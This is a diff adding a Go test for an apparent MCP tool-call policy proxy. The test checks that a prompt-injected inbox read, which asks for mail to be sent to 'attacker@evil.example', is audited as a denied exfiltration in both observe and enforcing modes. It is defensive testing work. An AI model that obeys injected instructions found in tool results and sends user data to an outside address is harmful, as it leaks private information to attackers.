@@ -99,3 +99,40 @@ func TestClientSession(t *testing.T) {
 		t.Fatalf("the vouched mail did not go out: %q", se)
 	}
 }
+
+// Observe mode decides every call as enforcing would, audits it with
+// enforced: false, and forwards it anyway: the poisoned read and the send it
+// asks for both reach the server, and the send is audited as the deny that
+// enforcing mode gives it.
+func TestObserveMode(t *testing.T) {
+	for _, observe := range []bool{true, false} {
+		var args []string
+		if observe {
+			args = []string{"--observe"}
+		}
+		s := e2e.Start(t, e2e.MCPGo(t, "attacker@evil.example"), e2e.Options{Policy: sessionPolicy, Args: append(args, "--name", "mail")})
+		if r := s.CallTool(1, "read_inbox", `{}`); !strings.Contains(r.Text, "attacker@evil.example") {
+			t.Fatalf("read_inbox: %s", r.Raw)
+		}
+		v, rule, _ := sendTo(t, s, 2, "mail", "attacker@evil.example")
+		if v != "deny" || rule != "sink" {
+			t.Fatalf("observe=%v: audited %s/%s, want the deny enforcing gives", observe, v, rule)
+		}
+		var e2 *bool
+		for _, e := range s.Audit() {
+			if string(e.ID) == "2" {
+				e2 = e.Enforced
+				if !strings.HasPrefix(e.Policy, "sha256:") {
+					t.Errorf("audit line without the policy digest: %+v", e)
+				}
+			}
+		}
+		sent := len(s.SideEffects())
+		switch {
+		case observe && (e2 == nil || *e2 || sent != 1):
+			t.Fatalf("observe: enforced=%v, %d mails sent; want enforced false and the mail sent", e2, sent)
+		case !observe && (e2 != nil || sent != 0):
+			t.Fatalf("enforcing: enforced=%v, %d mails sent", e2, sent)
+		}
+	}
+}
